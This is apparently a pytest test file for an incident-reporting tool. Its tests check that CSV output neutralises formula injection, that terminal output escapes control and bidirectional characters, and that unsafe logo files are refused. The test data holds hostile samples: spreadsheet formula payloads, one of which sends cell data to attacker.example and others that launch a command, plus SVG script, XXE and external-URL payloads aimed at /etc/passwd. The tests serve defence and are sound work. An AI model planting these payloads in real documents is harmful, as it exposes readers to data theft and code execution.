"""Hostile input, second pass: what the product writes cannot be turned against its readers."""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path

import pytest

from tests.support import run_in

PAYLOADS = [
    '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
]


def _records(tmp_path: Path) -> Path:
    incidents = tmp_path / "incidents"
    incidents.mkdir()
    actors = [{"name": payload, "figures": {"interactions": 100 + n}} for n, payload in enumerate(PAYLOADS)]
    record = {"id": "csv-injection", "title": "T", "category": "c", "figures": {
        "interactions": {"value": 1000, "unit": "=1+2"}}, "actors": actors}
    (incidents / "r.json").write_text(json.dumps(record))
    return incidents


def test_metrics_csv_cells_never_start_a_formula(tmp_path: Path) -> None:
    _records(tmp_path)
    result = run_in(tmp_path, ["metrics", "incidents", "--format", "csv", "--by", "actor", "--no-cache"])
    assert result.exit_code == 0, result.output
    rows = list(csv.reader(io.StringIO(result.output)))
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    groups = {row[1] for row in rows[1:] if row[0] == "by_actor"}
    # The names are kept, behind the quote that makes a spreadsheet show them as text.
    assert groups == {"'" + payload for payload in PAYLOADS}
    assert "'=1+2" in cells


def test_a_cell_beginning_with_a_tab_or_carriage_return_is_quoted_too() -> None:
    from reporter.tables import csv_cell

    assert csv_cell("\t=1+1") == "'\t=1+1" and csv_cell("\r=1+1") == "'\r=1+1"
    assert csv_cell("Alpha Corp") == "Alpha Corp" and csv_cell(5) == 5 and csv_cell(None) is None


@pytest.mark.parametrize("key", ["\u001b[2J\u001b[31mred", "admin\u202e\u2066txt.exe", "zero\u200bwidth", "c1\u009bcsi"])
def test_terminal_output_shows_controls_from_input_escaped(tmp_path: Path, key: str) -> None:
    (tmp_path / "r.json").write_text(json.dumps({"id": "x", "title": "T", "category": "c", key: 1}))
    result = run_in(tmp_path, ["validate", "r.json"])
    assert result.exit_code == 1
    assert not any(ch in result.output for ch in key if not ch.isalnum() and ch not in "[].")
    # The library shows such characters as ⟨U+202E⟩; whatever reaches the terminal raw is escaped.
    assert "unknown key '" in result.output
    # JSON output is still JSON, with no raw control either.
    as_json = run_in(tmp_path, ["validate", "r.json", "--format", "json"])
    assert not any(ch in as_json.output for ch in key if not ch.isalnum() and ch not in "[].")
    assert any("unknown key" in problem["message"] for problem in json.loads(as_json.output))


SIGNATORY = '[organisation.signatory]\nname = "S"\n'


def _logo_project(tmp_path: Path, logo: str) -> Path:
    (tmp_path / "incidents").mkdir()
    (tmp_path / "incidents" / "r.yaml").write_text("id: r\ntitle: T\ncategory: c\nsensitivity: public\n")
    (tmp_path / "reporter.toml").write_text(f'[organisation]\nlogo = "{logo}"\n{SIGNATORY}')
    (tmp_path / "brief.yaml").write_text("template: regulator-letter\naudience: public\ntitle: T\n"
                                         "date: 2026-04-02\nincidents: [r]\nformats: [html]\n")
    return tmp_path


def _build(project: Path):  # noqa: ANN202
    return run_in(project, ["build", "brief.yaml", "--out", "out"])


def test_a_logo_that_is_a_fifo_is_refused_without_waiting(tmp_path: Path) -> None:
    import os

    project = _logo_project(tmp_path, "logo.png")
    os.mkfifo(project / "logo.png")
    result = _build(project)
    assert result.exit_code == 1 and "organisation.logo: logo.png is not a regular file" in result.output.replace(
        str(project) + "/", "")
    assert not (project / "out").exists()


@pytest.mark.parametrize("target", ["/etc/passwd", "/dev/zero"])
def test_a_logo_that_leads_outside_the_project_is_refused(tmp_path: Path, target: str) -> None:
    project = _logo_project(tmp_path, "logo.svg")
    (project / "logo.svg").symlink_to(target)
    result = _build(project)
    assert result.exit_code == 1 and "leads outside the project" in result.output
    assert not (project / "out").exists()


def test_an_oversized_logo_is_refused(tmp_path: Path) -> None:
    project = _logo_project(tmp_path, "logo.png")
    (project / "logo.png").write_bytes(b"\x89PNG\r\n\x1a\n" + b"\0" * (2 * 1024 * 1024))
    result = _build(project)
    assert result.exit_code == 1 and "is larger than 2 MiB" in result.output


@pytest.mark.parametrize("svg", [
    '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
    '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:x="http://www.w3.org/1999/xlink">'
    '<image x:href="file:///etc/passwd"/></svg>',
    '<svg xmlns="http://www.w3.org/2000/svg"><rect style="fill:url(http://attacker.example/x)"/></svg>',
    '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    '<svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>',
    '<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><p>x</p></foreignObject></svg>',
])
def test_an_svg_logo_with_active_or_external_content_is_refused(tmp_path: Path, svg: str) -> None:
    project = _logo_project(tmp_path, "logo.svg")
    (project / "logo.svg").write_text(svg)
    result = _build(project)
    assert result.exit_code == 1 and "organisation.logo:" in result.output and "is refused" in result.output


def test_a_plain_svg_logo_is_embedded(tmp_path: Path) -> None:
    project = _logo_project(tmp_path, "logo.svg")
    (project / "logo.svg").write_text('<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
                                      '<rect width="10" height="10" fill="#123456"/></svg>')
    result = _build(project)
    assert result.exit_code == 0, result.output
    assert "data:image/svg+xml;base64," in (project / "out" / "brief.html").read_text()


def test_what_a_killed_build_left_is_removed_by_the_next(tmp_path: Path) -> None:
    import os
    import subprocess
    import sys

    from reporter.output import PARTIAL

    root = Path(__file__).resolve().parent.parent
    out = tmp_path / "out"
    (out / "public-disclosure_files").mkdir(parents=True)
    # A process that has ended (its pid is free), as a build killed midway leaves it.
    gone = subprocess.run([sys.executable, "-c", "import os; print(os.getpid())"], capture_output=True,
                          text=True, check=True).stdout.strip()
    stale = [out / f".public-disclosure.pdf{PARTIAL}{gone}-abc123.tmp",
             out / "public-disclosure_files" / f".by-actor.png{PARTIAL}{gone}-x.tmp"]
    mine = out / f".other.pdf{PARTIAL}{os.getpid()}-y.tmp"  # a build still running
    for path in (*stale, mine):
        path.write_bytes(b"%PDF-1.7 CONFIDENTIAL piece")
    result = run_in(root, ["build", "briefs/public-disclosure.yaml", "--out", str(out), "--format", "md"])
    assert result.exit_code == 0, result.output
    assert not any(path.exists() for path in stale)
    assert mine.exists()


def test_thousands_of_actors_stay_bounded(tmp_path: Path) -> None:
    import time

    count = 5000
    actors = [{"name": f"Operator {n:05d}", "attribution": {"confidence": "low", "basis": ["Shared infrastructure."]},
               "figures": {"interactions": 1000 + (n * 7919) % 5000}} for n in range(count)]
    record = {"id": "many", "title": "Many operators", "category": "scraping", "sensitivity": "public",
              "status": "disclosed", "window": {"start": "2026-01-01", "end": "2026-02-01"},
              "figures": {"interactions": sum(a["figures"]["interactions"] for a in actors)}, "actors": actors}
    (tmp_path / "incidents").mkdir()
    (tmp_path / "incidents" / "many.json").write_text(json.dumps(record))
    (tmp_path / "reporter.toml").write_text(SIGNATORY)
    for template in ("executive-briefing", "disclosure-summary", "regulator-letter"):
        (tmp_path / f"{template}.yaml").write_text(f"template: {template}\naudience: public\ntitle: T\n"
                                                   "date: 2026-04-02\nincidents: [many]\nformats: [md, html]\n")
    started = time.perf_counter()
    chart = run_in(tmp_path, ["chart", "--kind", "by-actor", "-o", "a.svg"])
    timeline = run_in(tmp_path, ["chart", "--kind", "timeline", "-o", "t.svg"])
    built = run_in(tmp_path, ["build", "executive-briefing.yaml", "disclosure-summary.yaml", "regulator-letter.yaml",
                              "--out", "out"])
    assert time.perf_counter() - started < 60
    assert chart.exit_code == timeline.exit_code == built.exit_code == 0, built.output
    # Fifteen bars: the fourteen largest, then the rest in one.
    assert chart.output.count("; ") == 14 and "; 4,986 others about " in chart.output
    assert timeline.output.count("; ") == 14 and "; 4,986 others: January 1 to February 1, 2026." in timeline.output
    svg = (tmp_path / "a.svg").read_text()
    # The SVG draws the fourteen named in the alt text, and no one else.
    drawn = set(re.findall(r"Operator \d{5}", svg))
    assert len(drawn) == 14 and drawn == set(re.findall(r"Operator \d{5}", chart.output))
    for name in ("executive-briefing", "disclosure-summary", "regulator-letter"):
        text = (tmp_path / "out" / f"{name}.md").read_text()
        assert len(text) < 60_000
        assert "4,975 further actors are not listed here." in text


def _example(tmp_path: Path) -> Path:
    import shutil

    root = Path(__file__).resolve().parent.parent
    for name in ("incidents", "briefs", "assets"):
        shutil.copytree(root / name, tmp_path / name)
    shutil.copy(root / "reporter.toml", tmp_path / "reporter.toml")
    return tmp_path


BRIEF_HEAD = "template: executive-briefing\ntitle: T\ndate: 2026-06-12\n"


@pytest.mark.parametrize(("incidents", "expected"), [
    ("{period: 2026.5}", 'b.yaml:4:21: incidents.period: expected a year "2026", a quarter "2026-Q2" or a month '
                         '"2026-05"\n'),
    ("[Bad]", "b.yaml:4:13: incidents[0]: expected a slug: lowercase letters, digits and hyphens, starting with a "
              "letter or digit, at most 64 characters\n"),
    ("[distillation-2026-q2, nope]", "b.yaml:4:35: incidents[1]: no incident with id 'nope' in the records\n"),
])
def test_brief_problems_have_one_message_with_line_and_column(tmp_path: Path, incidents: str, expected: str) -> None:
    project = _example(tmp_path)
    (project / "b.yaml").write_text(f"{BRIEF_HEAD}incidents: {incidents}\n")
    result = run_in(project, ["build", "b.yaml", "--out", "out"])
    checked = "" if "incidents[1]: no incident" not in expected else "Error: 1 error, 0 warnings: nothing was written\n"
    assert result.exit_code == 1 and result.output == expected + checked


def test_a_year_written_as_a_number_selects_that_year(tmp_path: Path) -> None:
    project = _example(tmp_path)
    (project / "b.yaml").write_text(f"{BRIEF_HEAD}incidents: {{period: 2026}}\nformats: [md]\n")
    result = run_in(project, ["build", "b.yaml", "--out", "out"])
    assert result.exit_code == 0, result.output


def test_a_missing_template_dir_and_an_unknown_audience_are_bad_usage(tmp_path: Path) -> None:
    project = _example(tmp_path)
    missing = run_in(project, ["build", "briefs/public-disclosure.yaml", "--template-dir", "nowhere"])
    assert missing.exit_code == 2 and missing.output == "Error: --template-dir: no such directory: nowhere\n"
    audience = run_in(project, ["render", "--template", "disclosure-summary", "--audience", "press",
                                "--incident", "distillation-2026-q2", "-o", "x.md"])
    assert audience.exit_code == 2 and audience.output.startswith("Error: --audience: unknown audience 'press'")
    max_size = run_in(project, ["build", "briefs/public-disclosure.yaml", "--max-file-size", "1MiB", "--out", "o"])
    assert max_size.exit_code == 0, max_size.output  # build takes the option its messages name


def test_small_numbers_are_written_without_an_exponent(tmp_path: Path) -> None:
    (tmp_path / "t.yaml").write_text("id: t\ntitle: T\ncategory: c\nwindow: {start: 2026-01-01, end: 2026-04-11}\n"
                                     "figures: {interactions: 1, accounts: 1000}\n")
    as_json = run_in(tmp_path, ["metrics", "t.yaml", "--format", "json", "--no-cache"])
    as_csv = run_in(tmp_path, ["metrics", "t.yaml", "--format", "csv", "--no-cache"])
    for output in (as_json.output, as_csv.output):
        assert "e-0" not in output and "e-5" not in output and "e-6" not in output
    rate = json.loads(as_json.output)["incidents"]["t"]["per_account_daily_rate"]
    assert rate["value"] == 0.00001 and abs(rate["low"] - 0.00001) < 1e-15
    assert '"low": 0.000009999999999999997' in as_json.output
    assert ",0.00001,0.000009999999999999997,0.00001," in as_csv.output


def test_the_terminal_never_gets_raw_controls_whatever_the_library_says() -> None:
    from typer.testing import CliRunner

    from reporter import cli

    runner = CliRunner()

    @cli.app.command("echo-test", hidden=True)
    def _echo_test() -> None:
        cli._echo("a\x1b[31mb\u202ec\u200bd\x9be\nf")

    try:
        result = runner.invoke(cli.app, ["echo-test"])
    finally:
        cli.app.registered_commands.pop()
    assert result.output == "a\\x1b[31mb\\u202ec\\u200bd\\x9be\nf\n"


def test_hidden_characters_reach_documents_marked_never_raw(tmp_path: Path) -> None:
    (tmp_path / "incidents").mkdir()
    (tmp_path / "incidents" / "b.yaml").write_text(
        'id: b\ntitle: "Campaign by \\u202eevil\\u202c ltd"\ncategory: c\nsensitivity: public\nstatus: disclosed\n'
        'figures: {interactions: 100}\nactors:\n  - name: "Alpha\\u200bCorp"\n    figures: {interactions: 60}\n'
        '  - name: Beta\n    figures: {interactions: 40}\n')
    (tmp_path / "reporter.toml").write_text(SIGNATORY)
    (tmp_path / "b.yaml").write_text("template: disclosure-summary\ntitle: T\ndate: 2026-04-02\nincidents: [b]\n"
                                     "formats: [md, html]\n")
    result = run_in(tmp_path, ["build", "b.yaml", "--out", "out"])
    assert result.exit_code == 0, result.output
    for name in ("b.md", "b.html"):
        text = (tmp_path / "out" / name).read_text(encoding="utf-8")
        assert not any(0x200B <= ord(ch) <= 0x202E for ch in text), name
        assert "Campaign by ⟨U+202E⟩evil⟨U+202C⟩ ltd" in text and "Alpha⟨U+200B⟩Corp" in text
